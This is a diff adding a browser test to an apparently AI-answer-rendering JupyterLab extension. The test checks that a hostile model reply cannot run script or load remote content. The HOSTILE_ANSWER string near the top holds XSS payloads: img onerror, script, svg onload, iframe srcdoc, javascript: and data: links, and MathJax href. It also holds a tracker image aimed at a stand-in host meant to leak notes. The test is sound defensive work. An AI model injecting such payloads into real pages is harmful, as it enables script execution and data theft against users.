@@ -29,7 +29,7 @@ from typing import Any
 import pytest
 
 from tests.conftest import KEY_VARS, ROOT, TEST_KEY
-from tests.fakeapi import FakeAIMLAPI
+from tests.fakeapi import FakeAIMLAPI, Reply
 
 pytestmark = pytest.mark.browser
 
@@ -430,3 +430,47 @@ def test_notebook7_shows_the_answer_the_fold_and_a_working_panel(notebook7: Sess
     sent = re.search(r"top_p\s*=\s*([0-9.]+)", echo.inner_text())
     assert sent and float(sent.group(1)) == pytest.approx(moved, abs=0.006), echo.inner_text()
     assert len(notebook7.api.requests) == before  # replay: the kernel still sent nothing
+
+
+HOSTILE_ANSWER = (
+    "## Hostile answer\n\n"
+    "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">\n"
+    "<script>window.__pwned='script'</script>\n"
+    "<svg onload=\"window.__pwned='svg'\"></svg><iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">"
+    "</iframe>\n\n"
+    "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>x</script>)\n\n"
+    "![tracker](http://203.0.113.7/leak.png?q=notes) <img src=http://203.0.113.7/html.png>\n\n"
+    "Readable code: `<img src=x onerror=alert(1)>`\n\n"
+    "Math: $\\href{javascript:window.__pwned='math'}{x}$ and $$\\unicode{x41}\\href{javascript:1}{y}$$\n\n"
+    "```html\n<script>window.__pwned='fence'</script>\n```\n"
+)
+
+
+def test_hostile_answer_runs_nothing_and_loads_nothing_in_jupyterlab(lab: Session):
+    """The attack of issue #9, in a real JupyterLab: an answer with <img onerror>, <script>, an
+    <svg onload>, javascript: and data: links and remote images, streamed and then final."""
+    title = lab.page.title()
+    setup = _run_new_cell(
+        lab,
+        'import os\nos.environ.setdefault("AIML_API_KEY", os.environ.get("AIML_BROWSER_TEST_KEY", ""))\n'
+        "%aiml live",
+    )
+    setup.locator('.jp-OutputArea-output:has-text("Live: answers come from")').wait_for()
+    lab.api.queue(Reply(content=HOSTILE_ANSWER, chunk_chars=6, delay=0.01))
+    cell = _run_new_cell(lab, "%%aiml\nSummarise the page I pasted.")
+    out = cell.locator(".jp-OutputArea")
+    out.locator("sub").wait_for(timeout=30_000)
+    out.locator("mjx-container").nth(1).wait_for(timeout=30_000)  # MathJax has typeset the math too
+    assert lab.page.evaluate("() => window.__pwned") is None  # no script ran, live or final
+    assert lab.page.title() == title and "pwned" not in lab.page.title()
+    for selector in ("script", "iframe", "svg", "object", "embed", "img",
+                     '[href^="javascript"]', '[href^="data"]', "[onerror]", "[onload]"):
+        assert out.locator(selector).count() == 0, selector
+    text = out.inner_text()
+    for piece in ("<script>window.__pwned='script'</script>", "[click me](javascript:",
+                  "<img src=x onerror=alert(1)>", "<script>window.__pwned='fence'</script>"):
+        assert piece in text, (piece, text)
+    assert out.locator('h2:has-text("Hostile answer")').is_visible()
+    link = out.locator('a[href="http://203.0.113.7/leak.png?q=notes"]')
+    assert link.count() == 1 and "203.0.113.7/leak.png" in link.inner_text()  # a link, not loaded
+    assert lab.api.chat_requests[-1].json["messages"][-1]["content"] == "Summarise the page I pasted."
